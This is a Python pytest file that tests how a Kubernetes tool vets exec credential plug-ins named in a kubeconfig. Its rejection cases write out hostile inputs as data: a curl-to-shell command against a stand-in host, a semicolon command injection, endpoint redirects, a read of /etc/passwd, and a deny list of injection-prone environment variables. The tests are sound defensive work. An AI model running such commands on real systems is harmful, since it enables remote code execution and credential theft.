import json
import os
import sys
from pathlib import Path

import pytest

from seawall.discover.plugins import (
    PLUGINS,
    Allowed,
    ExecConfig,
    Variable,
    command_line,
    credential,
    variables,
)
from seawall.model.errors import NoEntry

V1 = "client.authentication.k8s.io/v1"
SERVER = "https://k.example"
AWS = ["eks", "get-token", "--cluster-name", "shop"]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """A PATH with every plug-in on it; each tells how it was called, and gives a token."""
    for name in PLUGINS:
        _write(tmp_path / name, f"told = {{'token': 'token of {name}'}}")
    return tmp_path


@pytest.fixture
def allowed(folder: Path) -> Allowed:
    return Allowed(str(folder), {"HOME": "/home/me", "PATH": str(folder)})


def _write(path: Path, body: str, after: str = "") -> None:
    path.write_text(
        f"#!{sys.executable}\n"
        "import json, os, sys\n"
        "asked = json.loads(os.environ['KUBERNETES_EXEC_INFO'])\n"
        f"{body}\n"
        "json.dump({'apiVersion': asked['apiVersion'], 'kind': 'ExecCredential', 'status': told},"
        " sys.stdout)\n"
        f"{after}\n"
    )
    path.chmod(0o755)


def config(command: str, *args: str, **env: str) -> ExecConfig:
    return ExecConfig(command, V1, list(args), [Variable(*each) for each in env.items()])


@pytest.mark.parametrize(
    "command, args",
    [
        pytest.param("aws", AWS, id="aws"),
        pytest.param("aws", ["--region", "eu-west-1", *AWS, "--output", "json"], id="EKS writes"),
        pytest.param("aws", [*AWS, "--role-arn=arn:aws:iam::1:role/read"], id="aws with a role"),
        pytest.param("aws-iam-authenticator", ["token", "-i", "shop"], id="authenticator"),
        pytest.param("gke-gcloud-auth-plugin", [], id="GKE"),
        pytest.param(
            "kubelogin",
            ["get-token", "--login", "azurecli", "--server-id", "6dae42f8-4368-4678-94ff-3960e28e"],
            id="AKS",
        ),
    ],
)
def test_the_plugins_of_the_clouds_are_run(
    command: str, args: list[str], allowed: Allowed, folder: Path
) -> None:
    asked = config(command, *args)

    assert (str(folder / command), *args) == command_line(asked, allowed)
    assert f"token of {command}" == credential(asked, SERVER, allowed).token


@pytest.mark.parametrize(
    "command, args",
    [
        pytest.param("sh", ["-c", "curl evil.example | sh"], id="a shell"),
        pytest.param("/bin/sh", ["-c", "id"], id="a shell by path"),
        pytest.param("./aws", AWS, id="beside the kubeconfig"),
        pytest.param("../aws", AWS, id="above the kubeconfig"),
        pytest.param("/tmp/aws", AWS, id="a namesake elsewhere"),  # noqa: S108  never opened
        pytest.param("aws;id", AWS, id="a shell's semicolon"),
        pytest.param("AWS", AWS, id="another case"),
        pytest.param("", [], id="nothing"),
        pytest.param("aws", [], id="no command"),
        pytest.param("aws", ["s3", "rm", "s3://bucket"], id="another command"),
        pytest.param("aws", [*AWS, "s3", "ls"], id="a command more"),
        pytest.param("aws", ["configure", "eks", "get-token"], id="a command before"),
        pytest.param("aws", [*AWS, "--endpoint-url", "https://evil.example"], id="an endpoint"),
        pytest.param("aws", [*AWS, "--endpoint-url=https://evil.example"], id="an endpoint, ="),
        pytest.param("aws", [*AWS, "--no-verify-ssl"], id="without TLS verification"),
        pytest.param("aws", [*AWS, "--cli-input-json", "file://x"], id="a file of arguments"),
        pytest.param("aws", [*AWS, "--region", "file:///etc/passwd"], id="a file for a value"),
        pytest.param("aws", [*AWS, "--region"], id="a value missing"),
        pytest.param("aws", [*AWS, "--region", "--profile"], id="an option for a value"),
        pytest.param("aws", [*AWS, "--profile", "a\nb"], id="a line break"),
        pytest.param("aws", ["--", *AWS], id="end of options"),
        pytest.param("aws-iam-authenticator", ["server"], id="a server"),
        pytest.param("aws-iam-authenticator", ["token", "-c", "x.yaml"], id="a settings file"),
        pytest.param("gke-gcloud-auth-plugin", ["--kubeconfig=x"], id="GKE with more"),
        pytest.param("kubelogin", ["get-token", "--browser-command=evil"], id="browser command"),
        pytest.param("kubelogin", ["get-token", "--authority-host", "h"], id="another authority"),
        pytest.param("kubelogin", ["convert-kubeconfig"], id="rewrites the kubeconfig"),
    ],
)
def test_a_malicious_plugin_is_not_run(command: str, args: list[str], allowed: Allowed) -> None:
    with pytest.raises(NoEntry):
        credential(config(command, *args), SERVER, allowed)


@pytest.mark.parametrize(
    "name",
    [
        *("PATH", "LD_PRELOAD", "LD_LIBRARY_PATH", "DYLD_INSERT_LIBRARIES", "PYTHONPATH"),
        *("PYTHONSTARTUP", "HOME", "AWS_CONFIG_FILE", "AWS_SHARED_CREDENTIALS_FILE"),
        *("AWS_ENDPOINT_URL", "AWS_CA_BUNDLE", "HTTPS_PROXY", "CLOUDSDK_PYTHON"),
        *("AZURE_CONFIG_DIR", "AZURE_AUTHORITY_HOST", "AZURE_EXTENSION_DIR", "aws_profile", ""),
    ],
)
def test_a_kubeconfig_does_not_choose_the_environment(name: str, allowed: Allowed) -> None:
    asked = config("aws", *AWS, **{name: "x"})

    with pytest.raises(NoEntry, match="environment variables"):
        credential(asked, SERVER, allowed)


def test_the_harmless_variables_are_passed_on(folder: Path, allowed: Allowed) -> None:
    _write(folder / "aws", "told = {'token': os.environ['AWS_PROFILE'] + os.environ['HOME']}")

    assert (
        "audit/home/me"
        == credential(config("aws", *AWS, AWS_PROFILE="audit"), SERVER, allowed).token
    )
    assert {"AWS_PROFILE": "audit"} == variables(config("aws", AWS_PROFILE="audit"))


def test_the_plugin_is_told_the_server_and_that_nobody_is_there(
    folder: Path, allowed: Allowed
) -> None:
    _write(folder / "aws", "told = {'token': json.dumps(asked)}")

    told = json.loads(credential(config("aws", *AWS), SERVER, allowed).token)

    assert {"interactive": False, "cluster": {"server": SERVER}} == told["spec"]


def test_a_relative_folder_of_path_is_not_searched(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(folder)

    for search in (".", "", f".{os.pathsep}"):
        with pytest.raises(NoEntry, match="not on PATH"):
            command_line(config("aws", *AWS), Allowed(search, {}))


def test_a_path_that_a_person_allows_is_run_with_any_argument(tmp_path: Path) -> None:
    mine = tmp_path / "my-login"
    _write(mine, "told = {'token': sys.argv[1]}")
    allowed = Allowed("", {}, commands=frozenset({str(mine)}))

    assert "--mine" == credential(config(str(mine), "--mine"), SERVER, allowed).token
    with pytest.raises(NoEntry, match="environment variables"):
        credential(config(str(mine), "--mine", LD_PRELOAD="x"), SERVER, allowed)


def test_a_name_is_not_a_path_that_a_person_can_allow(tmp_path: Path) -> None:
    with pytest.raises(NoEntry, match="allow-list"):
        command_line(config("my-login"), Allowed(str(tmp_path), {}, frozenset({"my-login"})))


def test_a_certificate_is_taken_with_its_key(folder: Path, allowed: Allowed) -> None:
    _write(folder / "aws", "told = {'clientCertificateData': 'C', 'clientKeyData': 'K'}")

    got = credential(config("aws", *AWS), SERVER, allowed)

    assert ("", b"C", b"K") == (got.token, got.certificate, got.key)
    assert "C" not in repr(got).replace("Credential", "")


@pytest.mark.parametrize(
    "body, after, said",
    [
        pytest.param("told = {}", "", "neither a token", id="nothing"),
        pytest.param("told = {'clientCertificateData': 'C'}", "", "neither", id="no key"),
        pytest.param("told = {'token': 7}", "", "did not answer", id="a token that is none"),
        pytest.param("told = {'token': 'x'}; print('hello')", "", "did not answer", id="no JSON"),
        pytest.param("asked['apiVersion'] = 'v2'; told = {'token': 'x'}", "", "asked for", id="v2"),
        pytest.param("sys.exit('\\x1b[31mtoken\\nexpired')", "", "token expired", id="failed"),
        pytest.param("told = {'token': 'secret'}", "sys.exit(3)", r"failed \(3\)", id="a code"),
    ],
)
def test_a_plugin_that_gives_nothing_is_no_entry(
    body: str, after: str, said: str, folder: Path, allowed: Allowed
) -> None:
    _write(folder / "aws", body, after)

    with pytest.raises(NoEntry, match=said) as caught:
        credential(config("aws", *AWS), SERVER, allowed)

    assert "\x1b" not in str(caught.value)
    assert "secret" not in str(caught.value)


def test_a_program_that_cannot_start_is_no_entry(folder: Path, allowed: Allowed) -> None:
    (folder / "aws").write_text("no program\n")

    with pytest.raises(NoEntry):
        credential(config("aws", *AWS), SERVER, allowed)


def test_an_unknown_credential_api_is_no_entry(allowed: Allowed) -> None:
    with pytest.raises(NoEntry, match="not known"):
        credential(ExecConfig("aws", "example/v1", AWS), SERVER, allowed)
